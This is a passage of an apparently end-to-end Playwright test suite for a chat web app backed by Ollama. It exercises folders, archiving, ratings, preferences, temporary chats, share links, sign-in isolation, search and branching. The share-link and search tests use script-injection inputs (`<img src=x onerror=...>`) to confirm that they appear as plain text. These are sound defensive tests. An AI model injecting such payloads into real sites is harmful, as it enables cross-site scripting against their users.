  assert.equal(await page.evaluate(() => (globalThis as any).document.activeElement?.id), 'move-folder')
  await page.keyboard.press('Enter')
  await page.waitForSelector('#folder-dialog[open]')
  await page.keyboard.type('Travel')
  await page.keyboard.press('Enter')
  await page.waitForSelector('.folder-toggle[data-folder="Travel"]')
  assert.deepEqual(await sidebarGroups(page), [
    ['Pinned', ['Trip plans']], ['Folders', ['Travel (1)']], ['Today', ['Recipe']], ['Yesterday', ['Yesterday\'s']], ['Previous 7 days', ['Last week']], ['Older', ['Old notes']]])
  await assertAccessible(page, 'organised sidebar')

  // Drag a chat onto the folder; open it; drag one out again onto the dated chats.
  await page.locator('.chat-item:has(button:text-is("Old notes"))').dragTo(page.locator('.folder-toggle[data-folder="Travel"]'))
  await page.waitForSelector('.folder-toggle:text-is("Travel (2)")')
  await page.click('.folder-toggle[data-folder="Travel"]')
  await page.waitForSelector('.folder-toggle[aria-expanded=true]')
  assert.deepEqual(await page.locator('.folder li button').allTextContents(), ['Trip plans', 'Old notes'])
  await page.locator('.folder .chat-item:has(button:text-is("Old notes"))').dragTo(page.locator('.chat-group:has(h2:text-is("Today"))'))
  await page.waitForSelector('.folder-toggle:text-is("Travel (1)")')
  assert.equal((await app.store.getSession(chats['Old notes']!, 'local'))!.folder, null)

  assert.equal(await page.isHidden('#share'), true, 'no Share… while SHARE_LINKS is off')
  // Archive: out of every list, found under Archived, restored from there.
  await clickChatAction(page, '#archive')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('#archive').textContent === 'Restore')
  await page.waitForFunction(() => ![...(globalThis as any).document.querySelectorAll('#session-list button')].some((button: any) => button.textContent === 'Trip plans'))
  await page.click('#show-archived')
  await page.waitForSelector('#session-list h2:text-is("Archived chats")')
  assert.deepEqual(await sidebarGroups(page), [['', []], ['Archived chats', ['Trip plans']]])
  assert.equal(await page.evaluate(() => (globalThis as any).document.activeElement?.id), 'archived-back')
  await page.click('#session-list button:text-is("Trip plans")')
  await clickChatAction(page, '#archive')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('#archive').textContent === 'Archive')
  await page.click('#archived-back')
  await page.waitForSelector('#session-list h2:text-is("Pinned")')

  // Kept on the server: the same after a reload.
  const organised = await app.store.getSession(chats['Trip plans']!, 'local')
  assert.deepEqual([organised!.pinned, organised!.archived, organised!.folder], [true, false, 'Travel'])
  await page.reload()
  await page.waitForSelector('#session-list h2:text-is("Pinned")')
  assert.deepEqual((await sidebarGroups(page)).slice(0, 2), [['Pinned', ['Trip plans']], ['Folders', ['Travel (1)']]])
  // A conversation beside the organised list: the README's pictures, light and dark.
  await sendMessage(page, 'Plan three days in Lisbon')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  await page.screenshot({ path: `${SCREENSHOTS}/organised-chats.png` })
  await page.emulateMedia({ colorScheme: 'dark' })
  await assertAccessible(page, 'the organised list, dark')
  await page.screenshot({ path: `${SCREENSHOTS}/dark.png` })
  await page.emulateMedia({ colorScheme: 'light' })

  // A phone: the same groups in the opened list, and nothing scrolls sideways.
  await page.setViewportSize({ width: 390, height: 780 })
  await page.click('#toggle-sidebar')
  await page.waitForSelector('#session-list.open')
  assert.ok(await page.evaluate(() => (globalThis as any).document.documentElement.scrollWidth <= 390))
  assert.deepEqual((await sidebarGroups(page)).map(([heading]) => heading), ['Pinned', 'Folders', 'Today', 'Yesterday', 'Previous 7 days', 'Older'])
  await assertAccessible(page, 'organised sidebar on a phone')
})

test('each message\'s toolbar on hover and focus: rate a reply (kept, shown again after a reload), read it aloud and stop', { skip }, async (t) => {
  const fake = await startedFake(t)
  const { page, server } = await openPage(t, fake, { width: 1280, height: 800 })
  // Headless Chromium has no voice (an utterance ends at once): what the page asks the browser's
  // speech synthesis to say is recorded instead, and stays "being said" until cancelled.
  await page.addInitScript(() => {
    const speech = (globalThis as any).speechSynthesis
    const cancel = speech.cancel.bind(speech)
    Object.assign(globalThis, { spoken: [], cancelled: 0 })
    speech.speak = (utterance: any) => (globalThis as any).spoken.push(utterance.text)
    speech.cancel = () => {
      ;(globalThis as any).cancelled++
      cancel()
    }
  })
  await page.reload()
  await page.waitForSelector('body[data-ready]')
  for (const question of ['first question', 'second question']) {
    await sendMessage(page, question)
    await page.waitForFunction((count) => [...(globalThis as any).document.querySelectorAll('.message.assistant')].filter((item: any) => item.dataset.status === 'complete').length === count, question === 'first question' ? 1 : 2)
  }
  const firstReply = page.locator('.message.assistant').first()
  const toolbarOpacity = (locator: ReturnType<Page['locator']>) => locator.locator('.actions').evaluate((bar: any) => (globalThis as any).getComputedStyle(bar).opacity)
  await page.mouse.move(1270, 10)
  assert.equal(await toolbarOpacity(firstReply), '0', 'an earlier message\'s toolbar waits for hover or focus')
  assert.equal(await toolbarOpacity(lastReply(page)), '1', 'the last message\'s is shown')
  await firstReply.locator('.body').hover()
  assert.equal(await toolbarOpacity(firstReply), '1')
  await page.mouse.move(1270, 10)
  await firstReply.locator('button:text-is("Good")').focus()
  assert.equal(await toolbarOpacity(firstReply), '1', 'focus shows it too')

  // Rate: Good, then Bad instead; stored with the reply and shown after a reload.
  await page.keyboard.press('Enter')
  await page.waitForSelector('.message.assistant >> nth=0 >> button[data-rating="up"][aria-pressed=true]')
  await firstReply.locator('button:text-is("Bad")').click()
  await page.waitForSelector('.message.assistant >> nth=0 >> button[data-rating="down"][aria-pressed=true]')
  assert.equal(await firstReply.locator('button[data-rating="up"]').getAttribute('aria-pressed'), 'false')
  const sessionId = await page.evaluate(() => (globalThis as any).location.hash.slice(1))
  const stored = (await json(await fetch(`${server.url}/v1/sessions/${sessionId}/messages`))).messages
  assert.deepEqual(stored.map((message: any) => message.rating ?? null), [null, 'down', null, null])
  await page.reload()
  await page.waitForSelector('.message.assistant >> nth=0 >> button[data-rating="down"][aria-pressed=true]')
  await assertAccessible(page, 'a rated reply, toolbars')

  // Read aloud: the reply's words (not its Markdown) go to the browser's speech; pressed again, it stops.
  const reply = lastReply(page)
  await reply.locator('button:text-is("Read aloud")').click()
  assert.deepEqual(await page.evaluate(() => (globalThis as any).spoken), [await reply.locator('.body').innerText()])
  await reply.locator('button:text-is("Stop reading")').click()
  await reply.locator('button:text-is("Read aloud")').waitFor()
  assert.equal(await page.evaluate(() => (globalThis as any).spoken.length), 1)
  assert.equal(await page.evaluate(() => (globalThis as any).cancelled), 2, 'cancelled before speaking, and to stop')
  await page.setViewportSize({ width: 390, height: 780 })
  assert.equal(await toolbarOpacity(lastReply(page)), '1')
  const bar = (await lastReply(page).locator('.actions').boundingBox())!
  assert.ok(bar.x + bar.width <= 390, 'the toolbar wraps within a phone\'s width')
})

test('preferences: the theme, Ctrl+Enter to send, the text size; applied at once and kept after a reload', { skip }, async (t) => {
  const fake = await startedFake(t)
  const { page } = await openPage(t, fake, { width: 1280, height: 800 })
  const background = () => page.evaluate(() => (globalThis as any).getComputedStyle((globalThis as any).document.body).backgroundColor)
  await page.emulateMedia({ colorScheme: 'light' })
  assert.equal(await background(), 'rgb(255, 255, 255)')
  await page.click('#preferences')
  await page.selectOption('#prefer-theme', 'dark')
  assert.equal(await background(), 'rgb(21, 23, 27)', 'dark, whatever the system says')
  await assertAccessible(page, 'the Preferences dialog, dark')
  await page.selectOption('#prefer-send-with', 'ctrl-enter')
  await page.selectOption('#prefer-text-size', 'large')
  assert.equal(await page.evaluate(() => (globalThis as any).getComputedStyle((globalThis as any).document.documentElement).fontSize), '18px')
  await page.click('#preferences-dialog button:text-is("Close")')

  // Enter adds a line now; Ctrl+Enter sends.
  await page.fill('#input', 'line one')
  await page.press('#input', 'Enter')
  await page.type('#input', 'line two')
  assert.equal(await page.inputValue('#input'), 'line one\nline two')
  assert.equal(await page.locator('.message').count(), 0)
  await page.press('#input', 'Control+Enter')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  assert.equal(await page.locator('.message.user .body').innerText(), 'line one\nline two')
  // The edit box sends the same way.
  await page.locator('.message.user button:text-is("Edit")').click()
  await page.fill('.message.user textarea', 'edited')
  await page.press('.message.user textarea', 'Enter')
  assert.equal(await page.inputValue('.message.user textarea'), 'edited\n')
  await page.press('.message.user textarea', 'Control+Enter')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.user .body')?.textContent === 'edited\n')

  await page.reload()
  await page.waitForSelector('body[data-ready]')
  assert.equal(await page.getAttribute('html', 'data-theme'), 'dark')
  assert.equal(await page.getAttribute('html', 'data-text-size'), 'large')
  assert.match((await page.getAttribute('#input', 'placeholder'))!, /Ctrl\+Enter sends/)
  await page.click('#preferences')
  assert.deepEqual([await page.inputValue('#prefer-theme'), await page.inputValue('#prefer-send-with'), await page.inputValue('#prefer-text-size')], ['dark', 'ctrl-enter', 'large'])
  await page.selectOption('#prefer-theme', 'system')
  await page.emulateMedia({ colorScheme: 'dark' })
  assert.equal(await background(), 'rgb(21, 23, 27)', 'as the system: dark')
  await page.emulateMedia({ colorScheme: 'light' })
  assert.equal(await background(), 'rgb(255, 255, 255)', 'as the system: light')
  await page.keyboard.press('Escape')
  // A phone: Preferences is with the chats; large text still fits the width.
  await page.setViewportSize({ width: 390, height: 780 })
  await page.click('#toggle-sidebar')
  await page.click('#preferences')
  await page.waitForSelector('#preferences-dialog[open]')
  assert.ok(await page.evaluate(() => (globalThis as any).document.documentElement.scrollWidth <= 390))
  await assertAccessible(page, 'Preferences on a phone, large text')
})

test('a new chat\'s empty state: the model, example prompts (put in the box, not sent), the documents and tools it can use', { skip }, async (t) => {
  const fake = await new FakeOllama({ models: ['llama3.2', 'qwen3:8b', 'nomic-embed-text'] }).listen()
  t.after(() => fake.close())
  const config = join(mkdtempSync(join(tmpdir(), 'chat-ollama-empty-')), 'mcp.json')
  writeFileSync(config, JSON.stringify({ builtin: { tools: { fetch_url: 'ask' } } }))
  const { page, server } = await openPage(t, fake, { width: 1280, height: 800 }, { MCP_CONFIG: config })
  const form = new FormData()
  form.append('purpose', 'assistants')
  form.append('file', new Blob(['Leave: 25 days a year.'], { type: 'text/plain' }), 'handbook.txt')
  const uploaded = await fetch(`${server.url}/v1/files`, { method: 'POST', body: form })
  assert.equal(uploaded.status, 200, await uploaded.clone().text())
  await page.reload()
  await page.waitForFunction(() => /fetch_url/.test((globalThis as any).document.querySelector('#empty-state')?.textContent ?? ''))
  await page.waitForFunction(() => /1 document of yours/.test((globalThis as any).document.querySelector('#empty-state').textContent))
  assert.equal(await page.innerText('#empty-heading'), 'Chat with llama3.2')
  assert.equal(await page.locator('#empty-state .examples button').count(), 4)
  await assertAccessible(page, 'a new chat\'s empty state')
  await page.selectOption('#model', 'qwen3:8b')
  assert.equal(await page.innerText('#empty-heading'), 'Chat with qwen3:8b')

  const example = page.locator('#empty-state .examples button').first()
  const text = await example.innerText()
  await example.click()
  assert.equal(await page.inputValue('#input'), text)
  assert.equal(await page.evaluate(() => (globalThis as any).document.activeElement?.id), 'input')
  assert.equal(fake.chatRequests().length, 0, 'an example is not sent by itself')
  await page.press('#input', 'Enter')
  await page.waitForSelector('#empty-state', { state: 'hidden' })
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  await page.click('#new-chat')
  await page.waitForSelector('#empty-state', { state: 'visible' })
  await page.setViewportSize({ width: 390, height: 780 })
  assert.ok(await page.evaluate(() => (globalThis as any).document.documentElement.scrollWidth <= 390))
  await page.screenshot({ path: `${SCREENSHOTS}/empty-state-phone.png` })
})

test('saved prompts: added and changed in their dialog; / in the message box lists them, filtered as you type; arrows and Enter put one in', { skip }, async (t) => {
  const fake = await startedFake(t)
  const { page, server } = await openPage(t, fake, { width: 1280, height: 800 })
  await page.click('#manage-prompts')
  await page.waitForSelector('#prompts-dialog[open]')
  for (const [title, content] of [['Translate', 'Translate into French:'], ['Explain code', 'Explain what this code does, line by line:']] as const) {
    await page.fill('#prompt-title', title)
    await page.fill('#prompt-content', content)
    await page.click('#prompt-save')
    await page.waitForFunction((name) => [...(globalThis as any).document.querySelectorAll('#prompts-list strong')].some((item: any) => item.textContent === name), title)
  }
  await page.click('#prompts-list button[aria-label="Edit Translate"]')
  assert.equal(await page.inputValue('#prompt-title'), 'Translate')
  await page.fill('#prompt-content', 'Translate into German:')
  await page.press('#prompt-title', 'Enter')
  await page.waitForFunction(() => /German/.test((globalThis as any).document.querySelector('#prompts-list').textContent))
  await assertAccessible(page, 'the Prompts dialog')
  await page.click('#prompts-dialog button:text-is("Close")')
  const stored = (await json(await fetch(`${server.url}/v1/prompts`))).prompts
  assert.deepEqual(stored.map((prompt: any) => [prompt.title, prompt.content]), [['Explain code', 'Explain what this code does, line by line:'], ['Translate', 'Translate into German:']])

  // `/` lists them by title; typing filters; Enter puts the chosen one in the box, not sent.
  await page.focus('#input')
  await page.keyboard.type('/')
  await page.waitForSelector('#prompt-menu:not([hidden])')
  assert.deepEqual(await page.locator('#prompt-menu [role=option] strong').allTextContents(), ['Explain code', 'Translate'])
  assert.equal(await page.getAttribute('#input', 'aria-activedescendant'), 'prompt-option-0')
  await assertAccessible(page, 'the saved prompts list open')
  await page.keyboard.press('ArrowDown')
  assert.equal(await page.locator('#prompt-menu [aria-selected=true] strong').textContent(), 'Translate')
  await page.keyboard.press('Enter')
  assert.equal(await page.inputValue('#input'), 'Translate into German:')
  assert.equal(await page.isHidden('#prompt-menu'), true)
  assert.equal(fake.chatRequests().length, 0, 'choosing a prompt does not send it')

  await page.fill('#input', '')
  await page.keyboard.type('/expl')
  await page.waitForFunction(() => (globalThis as any).document.querySelectorAll('#prompt-menu [role=option]').length === 1)
  await page.keyboard.press('Escape')
  assert.equal(await page.isHidden('#prompt-menu'), true)
  assert.equal(await page.inputValue('#input'), '/expl', 'Escape closes the list and keeps the text')
  await page.keyboard.type('a')
  await page.waitForSelector('#prompt-menu:not([hidden])')
  await page.locator('#prompt-menu [role=option]').first().click()
  assert.equal(await page.inputValue('#input'), 'Explain what this code does, line by line:')
  await page.keyboard.type(' x = 1')
  await page.keyboard.press('Enter')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  assert.equal(await page.locator('.message.user .body').innerText(), 'Explain what this code does, line by line: x = 1')

  // On a phone the list opens above the box, within the window.
  await page.setViewportSize({ width: 390, height: 780 })
  await page.fill('#input', '')
  await page.keyboard.type('/')
  await page.waitForSelector('#prompt-menu:not([hidden])')
  const menu = (await page.locator('#prompt-menu').boundingBox())!
  assert.ok(menu.x >= 0 && menu.x + menu.width <= 390 && menu.y >= 0, JSON.stringify(menu))
  assert.ok(await page.evaluate(() => (globalThis as any).document.documentElement.scrollWidth <= 390))
})

test('a temporary chat: streamed and continued like any chat, Stop works, and nothing is stored, listed or found; gone after a reload', { skip }, async (t) => {
  const fake = await startedFake(t)
  const { page, server } = await openPage(t, fake, { width: 1280, height: 800 })
  await page.check('#temporary')
  await page.waitForSelector('#temporary-note:not([hidden])')
  assert.equal(await page.innerText('#chat-title'), 'Temporary chat')
  await sendMessage(page, 'my secret plan')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  assert.equal((await lastReply(page).locator('.body').innerText()).trim(), 'You said: my secret plan')
  await sendMessage(page, 'and the second step')
  await page.waitForFunction(() => (globalThis as any).document.querySelectorAll('.message.assistant[data-status="complete"]').length === 2)
  // The model is sent the whole temporary conversation, from the page.
  assert.deepEqual(fake.chatRequests().at(-1)!.body.messages.map((message: any) => [message.role, message.content]),
    [['user', 'my secret plan'], ['assistant', 'You said: my secret plan'], ['user', 'and the second step']])
  assert.deepEqual(await lastReply(page).locator('.actions button').allTextContents(), ['Copy', 'Read aloud'], 'nothing that needs a stored message')

  // Stop closes the request.
  fake.next({ paced: true, tokens: ['one ', 'two ', 'three'] })
  await sendMessage(page, 'a long answer please')
  await page.waitForFunction(() => (globalThis as any).document.querySelectorAll('.message.assistant').length === 3)
  fake.release(1)
  await page.waitForFunction(() => /one/.test((globalThis as any).document.querySelectorAll('.message.assistant')[2].textContent))
  await page.click('#stop')
  await page.waitForFunction(() => (globalThis as any).document.querySelectorAll('.message.assistant')[2].getAttribute('data-status') === 'cancelled')
  await fake.waitFor(() => fake.chatRequests().at(-1)!.abortedAt !== null)

  // Nothing anywhere on the server.
  assert.deepEqual(await rowCounts(server.app), { sessions: 0, messages: 0 })
  assert.deepEqual((await json(await fetch(`${server.url}/v1/search?q=secret`))).results, [])
  assert.equal(await page.locator('#session-list .chat-item').count(), 0)
  await assertAccessible(page, 'a temporary chat')
  await page.reload()
  await page.waitForSelector('body[data-ready]')
  assert.equal(await page.locator('.message').count(), 0)
  assert.equal(await page.isChecked('#temporary'), false)
  assert.equal(await page.innerText('#chat-title'), 'New chat')
  // A phone: the switch is on the composer, and nothing scrolls sideways.
  await page.setViewportSize({ width: 390, height: 780 })
  await page.check('#temporary')
  await page.waitForSelector('#temporary-note:not([hidden])')
  assert.ok(await page.evaluate(() => (globalThis as any).document.documentElement.scrollWidth <= 390))
  await assertAccessible(page, 'a temporary chat on a phone')
})

test('share a chat (SHARE_LINKS=on): a link to a read-only page without the page\'s script, later messages not in it; revoked from the dialog', { skip }, async (t) => {
  const fake = await startedFake(t)
  const { page } = await openPage(t, fake, { width: 1280, height: 800 }, { SHARE_LINKS: 'on' })
  await sendMessage(page, 'Plan a picnic <img src=x onerror="document.title=1">')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  await clickChatAction(page, '#share')
  await page.waitForSelector('#share-dialog[open]')
  assert.equal(await page.isVisible('#share-none'), true)
  await page.click('#share-create')
  await page.waitForSelector('#share-created:not([hidden])')
  const link = await page.inputValue('#share-url')
  assert.match(link, /^http:\/\/127\.0\.0\.1:\d+\/s\/[A-Za-z0-9_-]{43}$/)
  await page.waitForSelector('#share-list li')
  await assertAccessible(page, 'the Share dialog')
  await page.click('#share-dialog button:text-is("Close")')
  await sendMessage(page, 'not for sharing')
  await page.waitForFunction(() => (globalThis as any).document.querySelectorAll('.message.assistant[data-status="complete"]').length === 2)

  // Read as someone else would: a fresh browser context, no cookie, the shared page alone.
  const reader = await (await launch()).newContext({ viewport: { width: 390, height: 780 } })
  t.after(() => reader.close())
  const shared = await reader.newPage()
  await shared.goto(link)
  assert.deepEqual(await shared.locator('li .text').allTextContents(), ['Plan a picnic <img src=x onerror="document.title=1">', 'You said: Plan a picnic <img src=x onerror="document.title=1">'])
  assert.equal(await shared.locator('script, img').count(), 0)
  assert.notEqual(await shared.title(), '1')
  assert.ok(await shared.evaluate(() => (globalThis as any).document.documentElement.scrollWidth <= 390))
  await assertAccessible(shared, 'a shared chat on a phone')
  await shared.screenshot({ path: `${SCREENSHOTS}/shared-chat.png` })

  await clickChatAction(page, '#share')
  await page.click('#share-list button:text-is("Revoke")')
  await page.waitForSelector('#share-none:not([hidden])')
  const gone = await shared.reload()
  assert.equal(gone!.status(), 404)
})

test('Continue on a cut reply: stopped, or cut at its token limit; the new version goes on from its text, the cut one kept', { skip }, async (t) => {
  const fake = await startedFake(t)
  const { page } = await openPage(t, fake, { width: 1280, height: 800 })
  fake.next({ paced: true, tokens: ['Day one: Alfama. ', 'Day two: '] })
  await sendMessage(page, 'Plan three days in Lisbon')
  fake.release(2)
  await page.waitForFunction(() => /Alfama/.test((globalThis as any).document.querySelector('.message.assistant')?.textContent ?? ''))
  await page.click('#stop')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'cancelled')
  const continueButton = lastReply(page).locator('button:text-is("Continue")')
  await continueButton.waitFor()
  assert.deepEqual(await lastReply(page).locator('.actions button').allTextContents(), ['Regenerate', 'Continue', 'Copy', 'Read aloud', 'Good', 'Bad'])

  fake.next({ tokens: [' Belém.', ' Day three: Sintra.'], doneReason: 'length' })
  await continueButton.click()
  await page.waitForFunction(() => /Sintra/.test((globalThis as any).document.querySelector('.message.assistant')?.textContent ?? '') && (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  const text = (await lastReply(page).locator('.body').innerText()).trim()
  assert.match(text, /^Day one: Alfama\. (Day two: )?Belém\. Day three: Sintra\.$/)
  assert.equal(fake.chatRequests().at(-1)!.body.messages.at(-1).role, 'assistant', 'the model was asked to go on from the text')
  assert.equal(await lastReply(page).locator('.siblings').innerText(), '2/2', 'the cut version is kept')
  // Cut at its token limit (done_reason length): Continue again, also after a reload.
  await lastReply(page).locator('button:text-is("Continue")').waitFor()
  await page.reload()
  await lastReply(page).locator('button:text-is("Continue")').waitFor()
  await assertAccessible(page, 'a reply with Continue')
})

test('the sidebar loads more chats as it scrolls, through the cursor', { skip }, async (t) => {
  const { page, server } = await openPage(t, null)
  for (let index = 0; index < 75; index++) await server.app.store.createSession({ title: `Chat ${index}` })
  await page.reload()
  await page.waitForFunction(() => (globalThis as any).document.querySelectorAll('#session-list .chat-item').length >= 30)
  for (let round = 0; round < 10; round++) {
    await page.locator('#session-list').evaluate((list: any) => list.scrollTo(0, list.scrollHeight))
    await page.waitForTimeout(100)
  }
  const titles = await page.locator('#session-list .chat-item').allInnerTexts()
  assert.equal(titles.length, 75)
  assert.equal(new Set(titles).size, 75, 'a chat was listed twice')
})

test('with AUTH required: sign in with a key, chat, reload still signed in, sign out; a second user sees none of the first one\'s chats', { skip }, async (t) => {
  const fake = await startedFake(t)
  const server = await authServer(t, fake, { RATE_LIMIT: '0' })
  const alice = await server.userWithKey('alice')
  const bob = await server.userWithKey('bob')
  const context = await (await launch()).newContext({ viewport: { width: 1200, height: 800 } })
  t.after(() => context.close())
  const page = await context.newPage()
  const pageErrors: string[] = []
  page.on('pageerror', (error) => pageErrors.push(error.message))
  t.after(() => assert.deepEqual(pageErrors, [], 'the page threw'))

  const signIn = async (key: string, name: string) => {
    await page.waitForSelector('#sign-in:not([hidden]) #api-key')
    assert.equal(await page.getAttribute('#api-key', 'type'), 'password')
    await page.fill('#api-key', key)
    await page.click('#sign-in-submit')
    // The page reloads signed in: wait for the new page to say who, not for an element the old one has too.
    await page.waitForFunction((expected) => (globalThis as any).document.querySelector('#signed-in-as')?.textContent === expected, name)
    await page.waitForSelector('body[data-ready]')
  }
  await page.goto(server.url)
  await page.waitForSelector('#sign-in:not([hidden]) #api-key')
  mkdirSync(SCREENSHOTS, { recursive: true })
  await page.screenshot({ path: `${SCREENSHOTS}/sign-in.png` })
  await assertAccessible(page, 'the sign-in form')
  await page.fill('#api-key', 'cko_wrong')
  await page.click('#sign-in-submit')
  await page.waitForSelector('#sign-in-error:not([hidden])')
  await signIn(alice.key, 'alice')
  assert.equal(await page.innerText('#signed-in-as'), 'alice')
  const cookies = await context.cookies()
  assert.deepEqual(cookies.map((cookie) => [cookie.name, cookie.httpOnly, cookie.sameSite]), [['chat_ollama_session', true, 'Strict']])

  await sendMessage(page, 'alice only')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('#session-list button')?.textContent === 'alice only')
  await page.reload()
  await page.waitForSelector('body[data-ready]')
  assert.equal(await page.isHidden('#sign-in'), true, 'still signed in after a reload')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('#session-list button')?.textContent === 'alice only')

  await page.click('#sign-out')
  await page.waitForSelector('#sign-in:not([hidden])')
  assert.equal(await page.isHidden('#layout'), true)
  assert.equal((await fetch(`${server.url}/v1/sessions`, { headers: { cookie: `chat_ollama_session=${cookies[0]!.value}` } })).status, 401, 'the old cookie is dead')

  await signIn(bob.key, 'bob')
  assert.equal(await page.innerText('#signed-in-as'), 'bob')
  const own = await json(await fetch(`${server.url}/v1/sessions`, { headers: bob.headers }))
  assert.equal(own.sessions.length, 0)
  assert.equal(await page.locator('#session-list button').count(), 0, 'bob sees none of alice\'s chats')
})

test('a long chat shows where the model\'s memory begins, live and after a reload', { skip }, async (t) => {
  const fake = await startedFake(t)
  // num_ctx 1024 leaves 768 tokens for the conversation: about five turns of these.
  const { page, server } = await openPage(t, fake, undefined, { DEFAULT_NUM_CTX: '1024' })
  const long = (turn: number) => `Turn ${turn}: ${'tell me more about the history of the lighthouse '.repeat(6)}`
  for (let turn = 1; turn <= 7; turn++) {
    await sendMessage(page, long(turn))
    await page.waitForFunction((count) => (globalThis as any).document.querySelectorAll('.message.assistant[data-status="complete"]').length === count, turn)
  }
  const divider = page.locator('.context-cut')
  await divider.waitFor()
  assert.equal(await divider.innerText(), 'Earlier messages are not sent to the model')
  const sessionId = await page.evaluate(() => (globalThis as any).location.hash.slice(1))
  const session = await json(await fetch(`${server.url}/v1/sessions/${sessionId}`))
  const firstSent = session.context_cut.first_sent_message_id
  const nextId = async () => page.evaluate(() => (globalThis as any).document.querySelector('.context-cut').nextElementSibling.dataset.id)
  assert.equal(await nextId(), firstSent, 'right before the first message the model is sent')
  assert.equal(fake.chatRequests().at(-1)!.body.messages[0].content.startsWith('Turn '), true)
  await page.reload()
  await page.locator('.context-cut').waitFor()
  assert.equal(await nextId(), firstSent, 'the same after a reload')
  await page.locator('.context-cut').scrollIntoViewIfNeeded()
  await page.screenshot({ path: `${SCREENSHOTS}/context-cut.png` })
  await assertAccessible(page, 'the divider of a long chat')
})

test('search from the sidebar: results as you type with the words marked, and a result opens its chat at the message', { skip }, async (t) => {
  const fake = await startedFake(t)
  const { page, server } = await openPage(t, fake)
  const { app } = server
  const trip = await app.store.createSession({ title: 'Trip plans' })
  const [, reply] = await app.store.appendMessages(trip.id, 'local', [
    { role: 'user', content: 'Where should we eat?' },
    { role: 'assistant', content: 'Try the Café de Flore <img src=x onerror=alert(1)> near the river.' },
  ])
  await app.store.createSession({ title: 'Other things' })
  await page.reload()
  // Typed once the page's script has run (it fills the chat list), or the typing goes unheard.
  await page.waitForFunction(() => (globalThis as any).document.querySelectorAll('#session-list button').length === 2)
  await page.fill('#search', 'cafe flore')
  const result = page.locator('#search-results button').first()
  await result.waitFor()
  assert.equal(await page.locator('#search-results button').count(), 1)
  assert.deepEqual(await result.locator('mark').allInnerTexts(), ['Café', 'Flore'])
  assert.match(await result.innerText(), /<img src=x onerror=alert\(1\)>/, 'shown as text, never parsed')
  await result.click()
  const found = page.locator('.message.found')
  await found.waitFor()
  assert.equal(await found.getAttribute('data-id'), reply)
  assert.equal(await page.locator('#chat-title').innerText(), 'Trip plans')
  await page.screenshot({ path: `${SCREENSHOTS}/search.png` })
  await assertAccessible(page, 'search results')
  await page.press('#search', 'Escape')
  await page.locator('#search-results').waitFor({ state: 'hidden' })
})

test('branches on the page: regenerate a reply, switch versions with ‹ 1/2 ›, edit a question; the choice survives a reload; copy a message', { skip }, async (t) => {
  const fake = await startedFake(t)
  const { page } = await openPage(t, fake)
  const versionOf = (selector: string) => page.waitForFunction(
    ([css, text]) => (globalThis as any).document.querySelector(css)?.textContent === text,
    selector.split('|') as [string, string],
  )
  await sendMessage(page, 'Q1')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  assert.equal(await page.locator('.siblings').count(), 0, 'no switcher while there is one version')

  fake.scenario = { tokens: ['Second ', 'try'] }
  await lastReply(page).locator('button[data-action=regenerate]').click()
  await versionOf('.message.assistant .siblings|2/2')
  assert.equal(await lastReply(page).locator('.body').innerText(), 'Second try')
  assert.deepEqual(fake.chatRequests().at(-1)!.body.messages.map((message: any) => message.content), ['Q1'])

  await lastReply(page).getByRole('button', { name: 'Previous version' }).click()
  await versionOf('.message.assistant .siblings|1/2')
  assert.equal(await lastReply(page).locator('.body').innerText(), 'You said: Q1')
  await page.reload()
  await page.waitForSelector('body[data-ready]')
  await versionOf('.message.assistant .siblings|1/2')
  assert.equal(await lastReply(page).locator('.body').innerText(), 'You said: Q1', 'the version chosen is the one shown after a reload')

  fake.scenario = {}
  await page.locator('.message.user').last().locator('button[data-action=edit]').click()
  assert.equal(await page.inputValue('.message.user form.edit textarea'), 'Q1')
  await page.fill('.message.user form.edit textarea', 'Q1, edited')
  await page.click('.message.user form.edit button[type=submit]')
  await versionOf('.message.user .siblings|2/2')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  assert.equal(await lastReply(page).locator('.body').innerText(), 'You said: Q1, edited')
  assert.equal(await page.locator('.message.assistant .siblings').count(), 0, 'the edited question has one reply so far')
  assert.deepEqual(fake.chatRequests().at(-1)!.body.messages.map((message: any) => message.content), ['Q1, edited'])

  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
  await lastReply(page).locator('button[data-action=copy]').click()
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant button[data-action=copy]')?.textContent === 'Copied')
  assert.equal(await page.evaluate(() => (globalThis as any).navigator.clipboard.readText()), 'You said: Q1, edited')
})

test('export a chat (JSON, Markdown) and all chats, and import a file from the sidebar', { skip }, async (t) => {
  const fake = await startedFake(t)
  const { page } = await openPage(t, fake)
  assert.equal(await page.isVisible('#export-json'), false, 'nothing to export before a chat')
  await sendMessage(page, 'Plan a trip')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  const read = async (selector: string) => {
    const [download] = await Promise.all([page.waitForEvent('download'), selector === '#export-all' ? page.click(selector) : clickChatAction(page, selector)])
    return { name: download.suggestedFilename(), text: readFileSync((await download.path())!, 'utf8') }
  }
  const asJson = await read('#export-json')
  assert.equal(asJson.name, 'Plan a trip.json', 'the UTF-8 name (filename*) is the one browsers take')
  const exported = JSON.parse(asJson.text)
